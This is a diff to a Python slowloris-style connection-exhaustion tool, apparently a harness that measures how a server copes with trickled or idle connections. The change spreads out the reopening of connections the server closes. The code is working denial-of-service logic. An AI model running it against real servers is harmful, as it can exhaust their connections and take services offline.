@@ -6,7 +6,8 @@ its scrapes meanwhile. python3 standard library only.
       MODE drip: every connection sends one more byte of a request that never ends, one byte
       every INTERVAL_S (phases spread over the interval), like slowloris.
       MODE idle: every connection sends nothing.
-      A connection the server closes is opened again at its next tick, as slowloris does.
+      A connection the server closes is opened again about INTERVAL_S later (0.5 to 1.5
+      times, so that reopening never turns into a flood of new connections).
       Prints "attack ready open=N failed=M" once every connection has been tried, then after
       DURATION_S "attack done ..." with how many connections the server closed and the longest
       time one of them was held open (drip: how long a trickle kept its slot).
@@ -50,6 +51,10 @@ class Attacker:
         self.failed = 0
         self.longest_closed_s = 0.0
 
+    def reopen_time(self, now):
+        # Spread over the interval: the attack holds on to what it can, it does not flood.
+        return now + random.uniform(0.5, 1.5) * self.interval
+
     def open(self, i, now):
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         s.setblocking(False)
@@ -57,7 +62,7 @@ class Attacker:
         if rc not in (0, errno.EINPROGRESS):
             s.close()
             self.failed += 1
-            self.reopen_at[i] = now + self.interval
+            self.reopen_at[i] = self.reopen_time(now)
             return
         slot = {"sock": s, "opened": now, "sent": 0, "connected": rc == 0,
                 "next": now + random.uniform(0, self.interval)}
@@ -69,7 +74,7 @@ class Attacker:
         self.sel.unregister(slot["sock"])
         slot["sock"].close()
         self.slots[i] = None
-        self.reopen_at[i] = now + self.interval
+        self.reopen_at[i] = self.reopen_time(now)
         if by_server:
             self.closed_by_server += 1
             self.longest_closed_s = max(self.longest_closed_s, now - slot["opened"])
